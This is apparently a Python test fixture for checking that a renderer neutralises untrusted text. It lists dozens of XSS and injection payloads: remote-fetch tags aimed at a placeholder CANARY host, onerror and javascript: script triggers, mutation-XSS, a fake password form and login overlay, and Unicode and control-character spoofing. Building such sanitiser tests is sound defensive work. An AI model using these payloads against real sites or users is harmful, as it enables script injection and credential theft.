"""Texts that try to be more than text; CANARY stands for a host nobody should call, RUN for a script nobody should run."""

from __future__ import annotations

RUN = "window.ranByOthers.push(1)"
PAYLOADS = [
    # markdown
    "![photo](CANARY/md.png)",
    "![photo][ref]\n\n[ref]: CANARY/ref.png",
    "[click me](CANARY/link)",
    "[click me](javascript:RUN)",
    "[2](#s-1-2) and [2] and [[3]](#s-1-3)",
    "<CANARY/autolink> and CANARY/bare and www.canary.example",
    "```mermaid\ngraph TD; A[<img src=CANARY/mermaid.png>]\n```",
    "~~~html\n<img src=CANARY/fence.png>\n~~~",
    "# heading\n\n* list **bold** _em_ `code` ~~gone~~\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    "$$\\href{javascript:RUN}{x}$$ $$\\includegraphics{CANARY/katex.png}$$",
    "\\(\\htmlStyle{background:url(CANARY/katex2.png)}{x}\\)",
    "<thinking>x</thinking> <details open ontoggle=RUN>x</details>",
    # what fetches
    "<img src=CANARY/img.png>",
    "<img srcset='CANARY/srcset.png 1x'>",
    "<picture><source srcset=CANARY/picture.png><img></picture>",
    "<input type=image src=CANARY/input.png>",
    "<video src=CANARY/video.mp4 poster=CANARY/poster.png autoplay></video>",
    "<audio src=CANARY/audio.mp3 autoplay></audio>",
    "<svg><image href=CANARY/svg.png></image></svg>",
    "<svg><use href='CANARY/use.svg#x'></use></svg>",
    "<div style='background:url(CANARY/style.png)'>x</div>",
    "<table background=CANARY/table.png><tr><td>x</td></tr></table>",
    "<link rel=stylesheet href=CANARY/link.css>",
    "<link rel=prefetch href=CANARY/prefetch>",
    "<style>@import 'CANARY/import.css'; body{display:none}</style>",
    "<object data=CANARY/object></object><embed src=CANARY/embed>",
    "<iframe src=CANARY/iframe></iframe><iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "<body background=CANARY/body.png>",
    # what runs
    "<script>RUN</script><script src=CANARY/script.js></script>",
    "<img src=x onerror=RUN>",
    "<svg onload=RUN><animate onbegin=RUN attributeName=x dur=1s></svg>",
    "<svg><script>RUN</script><a xlink:href='javascript:RUN'><text y=9>x</text></a></svg>",
    "<a href='javascript:RUN'>x</a><a href='data:text/html,<script>RUN</script>'>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
    "<x contenteditable onblur=RUN onfocus=RUN autofocus tabindex=1>x</x>",
    "\"><img src=x onerror=RUN> '><svg onload=RUN> ` onmouseover=RUN `",
    "--><img src=x onerror=RUN><!-- ]]><img src=x onerror=RUN>",
    "${RUN} {{RUN}} {{{RUN}}} {{#with RUN}}{{/with}} `+RUN+` @children \\`${RUN}",
    "&lt;img src=x onerror=RUN&gt; &#60;script&#62;RUN&#60;/script&#62; &amp;lt;b&amp;gt;",
    # what deceives
    "<form action=CANARY/form><input name=password type=password><button>Log in</button></form>",
    "<div style='position:fixed;inset:0;z-index:9999;background:#fff'>Please log in</div>",
    "<div id=ask class='card on' style='display:none'>x</div><base href=CANARY/>",
    "<meta http-equiv=refresh content='0;url=CANARY/refresh'>",
    "</details></section></article></p></div></main></body></html><h5>outside</h5>",
    "invoice\u202efdp.exe \u2066hidden\u2069 zero\u200bwidth \ufefftags\U000e0041\U000e0042",
    "bell\x07 escape\x1b[31m null\x00 delete\x7f c1\x9b31m \u2028line",
    "<scr\x00ipt>RUN</scr\x00ipt> <scr\u200bipt>RUN</scr\u200bipt> java\tscript:RUN",
]
